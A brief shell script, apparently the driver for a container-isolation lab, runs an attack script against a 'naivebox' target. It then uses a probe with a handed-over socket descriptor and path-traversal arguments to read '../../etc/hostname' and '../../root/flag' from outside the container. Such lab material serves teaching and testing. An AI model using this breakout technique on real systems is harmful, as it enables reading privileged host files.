#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
sh "$LAB_EXERCISE/attack.sh"
sh "$LAB_EXERCISE/attack.sh" naivebox
minibox run --rm -v handed:/handed lab/box /.minibox/probe fd-take /handed/socket 0 ../../etc/hostname ../../root/flag
